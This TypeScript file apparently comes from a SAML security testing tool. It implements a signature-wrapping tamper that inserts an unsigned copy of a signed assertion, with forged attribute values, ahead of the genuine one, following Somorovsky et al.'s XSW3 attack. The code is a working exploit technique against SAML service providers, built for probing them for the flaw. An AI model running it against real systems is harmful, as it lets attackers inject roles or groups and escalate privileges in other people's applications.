import { NS } from '../namespaces.ts';
import { childElements } from '../safe-xml.ts';
import {
  evilId,
  parseGenuine,
  replaceText,
  requireSignedAssertion,
  serialize,
  subjectNameId,
  unsignedCopy,
} from './dom.ts';
import { type TamperDef, TamperNotApplicable } from './types.ts';

/** What each forged attribute value starts with: a value the IdP never asserted, easy to spot in an echo. */
export const FORGED_VALUE_PREFIX = 'accord-forged-';

const NAME = 'forged-attributes';

/**
 * R[…, A'(unsigned: the genuine subject, attribute values forged), A[S]]. The identity stays the
 * genuine user's, so an SP that reads claims from an assertion no signature covers signs in the
 * right person and hands its application what the attacker wrote (a role, a group, a name): only
 * the attributes the application got show it. Values equal to the NameID (email, uid) stay, so the
 * subject is the same in both assertions.
 */
export const forgedAttributes: TamperDef = {
  name: NAME,
  title:
    'Unsigned assertion with the genuine subject and forged attribute values, before the signed assertion',
  source:
    'Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012 (XSW3 form, claims forged instead of the subject)',
  needs: 'assertion-signature',
  apply(xml) {
    const g = parseGenuine(xml, NAME);
    const { assertion } = requireSignedAssertion(g, NAME);
    const evil = unsignedCopy(assertion);
    evil.setAttribute('ID', evilId(evil.getAttribute('ID') ?? ''));
    const nameId = subjectNameId(evil)?.textContent ?? '';
    let forged = 0;
    for (const statement of childElements(evil, NS.saml, 'AttributeStatement'))
      for (const attribute of childElements(statement, NS.saml, 'Attribute'))
        for (const value of childElements(attribute, NS.saml, 'AttributeValue')) {
          const text = value.textContent ?? '';
          if (text === nameId) continue;
          replaceText(value, `${FORGED_VALUE_PREFIX}${text}`);
          forged++;
        }
    if (forged === 0)
      throw new TamperNotApplicable(
        NAME,
        'the signed assertion has no attribute value besides the NameID to forge',
      );
    g.response.insertBefore(evil, assertion);
    return serialize(g.doc);
  },
};
